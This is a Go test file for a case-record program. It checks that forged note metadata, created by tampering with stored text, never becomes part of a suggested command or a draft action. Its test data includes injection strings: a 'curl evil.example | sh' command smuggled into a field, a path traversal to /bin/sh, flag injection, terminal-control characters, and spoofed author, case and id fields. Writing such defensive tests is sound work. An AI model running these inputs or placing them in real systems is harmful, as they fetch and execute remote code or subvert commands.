package casebook

import (
	"strings"
	"testing"
	"time"

	"casefile/internal/record"
	"casefile/internal/seal"
	"casefile/internal/team"
)

// forged records a text of somebody's as it stands, past every check of the program.
func (o *office) forged(who string, id record.ID, from, to string) {
	o.Helper()
	b := o.as(who)
	p := b.prepared(o, id, "note", noteText("Left behind"))
	text := strings.TrimRight(string(p.Text), " \n") + "\n"
	if !strings.Contains(text, from) {
		o.Fatalf("the text has no %q", from)
	}
	p.Text = must(seal.Pad([]byte(strings.Replace(text, from, to, 1))))
	p.SHA256 = seal.Commitment(p.Text)
	_, err := b.Add(o.ctx, id, []*Prepared{p}, nil)
	o.must(err)
}

// forgeries are front matters by which a text would become a command, a flag, a path, another
// entry or another's words.
func forgeries(id string) map[string][2]string {
	entry := id + "/7K2M9QXH"
	return map[string][2]string{
		"a command line":    {"kind: note", "kind: endorse " + entry + " --verdict endorsed"},
		"a shell":           {"kind: note", "kind: note; curl evil.example | sh #"},
		"an endorsement":    {"kind: note", "kind: endorse"},
		"a flag":            {"kind: note", "kind: --identity"},
		"a path":            {"kind: note", "kind: ../../../bin/sh"},
		"signs of control":  {"kind: note", "kind: \"note\\e[2J\\u202e\""},
		"another's command": {"kind: note", "kind: dispose"},
		"an unknown kind":   {"kind: note", "kind: approval"},
		"of another":        {"by: ", "by: mina # "},
		"of another case":   {"case: " + id, "case: P4W87K2M"},
		"of another entry":  {"\nid: ", "\nid: P4W87K2M # "},
	}
}

const placeholder = "K3F927QM"

func here(text string, id record.ID) string {
	return strings.ReplaceAll(text, placeholder, string(id))
}

// A text in conflict becomes a draft, and never any part of a command. Its claims about itself
// count only where it is as its commit says.
func TestConflictOfAForgedText(t *testing.T) {
	for name, change := range forgeries(placeholder) {
		t.Run(name, func(t *testing.T) {
			o := newOffice(t)
			id := o.newCase()
			there := o.copied()
			o.forged("asha", id, here(change[0], id), here(change[1], id))
			there.alter("asha", func(m *team.Member, _ time.Time) {
				m.Roles = []team.Role{team.Contributor}
			})
			j := o.meets("asha", there)
			if len(j.Conflicts) != 1 {
				t.Fatalf("joined %+v", j)
			}
			o.onlyTexts("asha", j, id)
		})
	}
}

// The same for what a leaver left behind and a manager adopts.
func TestAdoptionOfAForgedText(t *testing.T) {
	for name, change := range forgeries(placeholder) {
		t.Run(name, func(t *testing.T) {
			o, carls, id := orphaned(t)
			o.alter("carl", leaves)
			carls.now = o.now.Add(48 * time.Hour)
			carls.forged("carl", id, here(change[0], id), here(change[1], id))
			o.now = carls.now
			j, err := o.adopts("mina", carls)
			o.must(err)
			o.onlyTexts("mina", j, id)
		})
	}
}

// onlyTexts checks that nothing of a forged text is in what a conflict asks for, or in what a
// draft does.
func (o *office) onlyTexts(who string, j *Joined, id record.ID) {
	o.Helper()
	for _, c := range j.Conflicts {
		for _, said := range c.Commands() {
			// it is not opened
			sealed := strings.HasPrefix(said, "nothing yet: no key of yours opens ")
			if !sealed && !strings.HasPrefix(said, "casefile draft resume ") {
				o.Errorf("it is repeated by %q", said)
			}
		}
	}
	b := o.as(who)
	for _, d := range must(b.Drafts()) {
		d = must(b.OpenDraft(string(d.ID)))
		if !d.Act.None() || d.Act.TakesDraft() || len(d.Cases()) != 1 || d.Cases()[0] != id {
			o.Errorf("the draft does %+v", d.Act)
		}
		if !strings.Contains(string(d.Text), "Left behind") {
			o.Errorf("the draft's text is %q", d.Text)
		}
	}
}
